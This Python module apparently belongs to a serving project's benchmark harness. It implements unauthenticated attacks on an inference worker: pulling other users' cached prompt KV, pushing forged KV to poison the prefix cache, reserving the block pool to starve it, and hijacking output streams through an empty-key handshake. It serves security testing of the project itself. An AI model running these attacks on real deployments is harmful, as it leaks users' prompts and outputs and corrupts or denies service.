"""Attacks on a worker's internal endpoints, run by an attacker with no
secret: the KV transfer service (pull a cached block, push forged KV,
reserve a pool with a header-only push) and the output streams (log in,
take over a router id). benchkit/attacker.py runs them in a process of
their own; each returns an ``Outcome``.

The attacker knows what a network attacker can know: the endpoints'
addresses, the public model (its KV layout and fingerprint, hence the block
hashes of any token ids) and the protocol (this repository). It speaks the
protocols itself (plain gRPC channels, its own handshake client) with no
credential: no call signature, and the empty key for the handshake's MAC.
"""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import json
import secrets
import socket
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass

import grpc
import numpy as np

from engine.hashing import hash_blocks, root_hash
from engine.kv_layout import KVLayout
from kv_transfer import wire
from kv_transfer.datachannel import PUSH_REFUSED_KEY
from kv_transfer.grpc_server import HELD_BLOCKS_KEY, PULL_METHOD, PUSH_METHOD
from net import handshake, local_socket
from net.sockets import split_address
from protos.tandem.v1 import kv_transfer_pb2 as pb
from protos.tandem.v1 import worker_pb2
from worker import output_wire

NO_SECRET = b""
"""The key of the only secret a stranger can guess: none (what a
deployment without a configured secret used to key its MACs with)."""
UNLIMITED = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]


@dataclass(frozen=True)
class Outcome:
    """What one attack got: ``status`` is a gRPC code name (``OK`` when the
    call went through), ``HTTP <n>``, ``dropped`` (the connection ended
    before any data came back), ``served`` (data came back) or
    ``unreachable`` (nothing listens there: the attack did not run);
    ``detail`` says what, in words."""

    status: str
    detail: str


def prompt_hashes(layout: KVLayout, token_ids: Sequence[int]) -> list[bytes]:
    """The prefix-cache hashes of ``token_ids``' full blocks (default domain)."""
    root = root_hash(layout.model_fingerprint, layout.block_size)
    return list(hash_blocks(token_ids, layout.block_size, root))


def _channel(address: str) -> grpc.aio.Channel:
    """A plain channel: no TLS, no credential, no call signature."""
    return grpc.aio.insecure_channel(address, options=UNLIMITED)


def _refused(e: grpc.aio.AioRpcError) -> Outcome:
    return Outcome(e.code().name, (e.details() or "")[:200])


async def pull(kv_address: str, layout: KVLayout, token_ids: Sequence[int]) -> Outcome:
    """PullBlocks for the blocks of a prompt someone else sent."""
    hashes = prompt_hashes(layout, token_ids)
    request = pb.PullRequest(
        layout=wire.layout_to_proto(layout), request_id="attacker-pull", block_hashes=hashes
    )
    header, nbytes = None, 0
    async with _channel(kv_address) as channel:
        call = channel.unary_stream(
            PULL_METHOD,
            request_serializer=pb.PullRequest.SerializeToString,
            response_deserializer=wire.decode,
        )(request, timeout=60)
        try:
            async for msg in call:
                if isinstance(msg, pb.TransferHeader):
                    header = msg
                elif isinstance(msg, wire.Chunk):
                    nbytes += len(msg.data)
        except grpc.aio.AioRpcError as e:
            return _refused(e)
    if header is None:
        return Outcome("OK", "a stream without a header")
    return Outcome(
        "OK",
        f"{header.num_blocks} of {len(hashes)} blocks: {len(header.token_ids)} token ids "
        f"of the prompt and {nbytes} bytes of its KV",
    )


def decode_start(router_id: str, num_prompt_tokens: int) -> bytes:
    """What a decode worker starts a pushed request with (protocol/decode_start.py):
    one more token to decode, its outputs to ``router_id``."""
    start = {
        "router_id": router_id,
        "num_prompt_tokens": num_prompt_tokens,
        "params": {"temperature": 0.0, "max_tokens": 2, "ignore_eos": True},
        "first_text": "x",
        "first_logprobs": None,
        "num_cached_tokens": 0,
        "num_output_tokens": 1,
    }
    return json.dumps(start).encode()


def login_for_pushes(outputs: str, router_id: str) -> tuple[str, socket.socket | None]:
    """A router id whose stream is open on the decode worker, as its pushes
    need: an output stream of the attacker's own when it gets one (the
    socket, kept open by the caller), else ``router_id`` (the real router's)."""
    own = f"router-{secrets.token_hex(4)}"
    try:
        conn = _connect(outputs)
        _answer_hello(conn, output_wire.HANDSHAKE_TAG, own.encode())
        conn.settimeout(5)
        if conn.recv(1):  # the stream's open frame: logged in
            return own, conn
        conn.close()
    except OSError:
        pass
    return router_id, None


async def push(
    kv_address: str, layout: KVLayout, token_ids: Sequence[int], router_id: str
) -> Outcome:
    """PushBlocks of KV of the attacker's making (over the gRPC stream) under
    the hashes and tokens of a prompt other users will send, starting a
    request whose outputs go to ``router_id``."""
    hashes = prompt_hashes(layout, token_ids)
    n = len(hashes)
    header = pb.TransferHeader(
        layout=wire.layout_to_proto(layout),
        request_id=f"attacker-push-{secrets.token_hex(4)}",
        num_blocks=n,
        block_hashes=hashes,
        token_ids=token_ids[: n * layout.block_size],
        total_bytes=n * layout.block_bytes,
        next_token_ids=[token_ids[-1]],
        decode_start=decode_start(router_id, n * layout.block_size),
    )
    async with _channel(kv_address) as channel:
        call = channel.stream_unary(
            PUSH_METHOD,
            request_serializer=lambda b: b,
            response_deserializer=pb.PushReply.FromString,
        )(timeout=60)
        try:
            await call.write(wire.encode_header(header))
            metadata = dict(await call.initial_metadata() or ())
            if call.done() or PUSH_REFUSED_KEY in metadata:
                await call.done_writing()
                await call  # refused: raises with the server's status
            if int(metadata.get(HELD_BLOCKS_KEY, 0) or 0):
                call.cancel()
                return Outcome("OK", f"the worker holds {metadata[HELD_BLOCKS_KEY]} blocks already")
            for span in wire.plan_chunks(
                layout.num_layers, n, layout.block_bytes_per_layer, 4 << 20
            ):
                size = (span[1] - span[0]) * (span[3] - span[2]) * layout.block_bytes_per_layer
                await call.write(wire.encode_chunk(span, hashes[span[2] : span[3]], size, _forge))
            await call.write(wire.encode_commit())
            await call.done_writing()
            reply = await call
        except grpc.aio.AioRpcError as e:
            return _refused(e)
        except asyncio.InvalidStateError:  # a write after the server ended the call
            return Outcome((await call.code()).name, (await call.details() or "")[:200])
    return Outcome("OK", f"committed {len(reply.block_ids)} blocks of forged KV")


def _forge(payload: memoryview) -> None:
    """KV of the attacker's choosing: large random values."""
    values = np.random.default_rng(7).standard_normal(len(payload) // 4, dtype=np.float32) * 50
    payload[: values.nbytes] = values.tobytes()


async def reserve(
    kv_address: str,
    layout: KVLayout,
    num_blocks: int,
    hold_s: float,
    router_id: str,
    announce: Callable[[Outcome], None],
) -> Outcome:
    """A push header for ``num_blocks`` blocks (a request for ``router_id``)
    and nothing after it. An accepted header is ``announce``d at once, then
    the call is held open for ``hold_s`` (while the caller looks at the pool)."""
    header = pb.TransferHeader(
        layout=wire.layout_to_proto(layout),
        request_id=f"attacker-reserve-{secrets.token_hex(4)}",
        num_blocks=num_blocks,
        total_bytes=num_blocks * layout.block_bytes,
        token_ids=[1] * (num_blocks * layout.block_size),
        next_token_ids=[1],
        decode_start=decode_start(router_id, num_blocks * layout.block_size),
    )
    channel = _channel(kv_address)
    call = channel.stream_unary(
        PUSH_METHOD, request_serializer=lambda b: b, response_deserializer=pb.PushReply.FromString
    )(timeout=hold_s + 30)
    try:
        await call.write(wire.encode_header(header))
        metadata = dict(await call.initial_metadata() or ())
        if call.done() or PUSH_REFUSED_KEY in metadata:
            await call.done_writing()
            return Outcome((await call.code()).name, (await call.details() or "")[:200])
        announce(Outcome("OK", f"reserved {num_blocks} blocks, holding them {hold_s:.0f} s"))
        await asyncio.sleep(hold_s)
        return Outcome("OK", "held")
    except grpc.aio.AioRpcError as e:
        return Outcome(e.code().name, (e.details() or "")[:200])
    finally:
        call.cancel()
        await channel.close()


def stream_login(address: str, router_id: str, read_s: float) -> Outcome:
    """Log in to a worker's output stream (``host:port`` or a Unix socket's
    address) as ``router_id`` and read what comes for ``read_s``."""
    try:
        conn = _connect(address)
    except OSError as e:
        return Outcome("unreachable", f"{type(e).__name__}: {e}")
    with conn:
        try:
            _answer_hello(conn, output_wire.HANDSHAKE_TAG, router_id.encode())
        except OSError as e:
            return Outcome("dropped", f"in the handshake: {e}")
        return _read_frames(conn, read_s)


def _answer_hello(conn: socket.socket, tag: bytes, identity: bytes) -> None:
    """The client side of net/handshake.py, its MAC keyed with NO_SECRET."""
    hello = b""
    while len(hello) < handshake.HELLO_BYTES:
        data = conn.recv(handshake.HELLO_BYTES - len(hello))
        if not data:
            raise ConnectionError(f"closed after {len(hello)} bytes of the hello")
        hello += data
    nonce = handshake.parse_hello(hello)
    tag_field = bytes([len(tag)]) + tag
    id_field = len(identity).to_bytes(2, "little") + identity
    mac = hmac.new(NO_SECRET, tag_field + nonce + id_field, hashlib.sha256).digest()
    conn.sendall(handshake.MAGIC + tag_field + id_field + mac)


def _connect(address: str) -> socket.socket:
    if address.startswith(local_socket.SCHEME):
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.settimeout(10)
        try:
            conn.connect(local_socket.local_path(address))
        except OSError:
            conn.close()
            raise
        return conn
    port = int(address.rsplit(":", 1)[1])
    return socket.create_connection((split_address(address), port), timeout=10)


def _read_frames(conn: socket.socket, read_s: float) -> Outcome:
    reader = output_wire.FrameReader(64 << 20)
    frames = deltas = events = 0
    deadline = time.monotonic() + read_s
    while (left := deadline - time.monotonic()) > 0:
        conn.settimeout(left)
        try:
            data = conn.recv(1 << 16)
        except TimeoutError:
            break
        except OSError as e:
            return _stream_outcome(frames, deltas, events, f"then reset: {e}")
        if not data:
            return _stream_outcome(frames, deltas, events, "then closed")
        for payload in reader.feed(data):
            batch = worker_pb2.StepBatch.FromString(payload)
            frames += 1
            deltas += len(batch.deltas)
            events += len(batch.cache_events)
    return _stream_outcome(frames, deltas, events, "still open")


def _stream_outcome(frames: int, deltas: int, events: int, end: str) -> Outcome:
    if frames == 0:
        return Outcome("dropped", f"no frame; {end}")
    detail = f"{frames} frames: {deltas} token deltas, {events} cache events; {end}"
    return Outcome("served", detail)
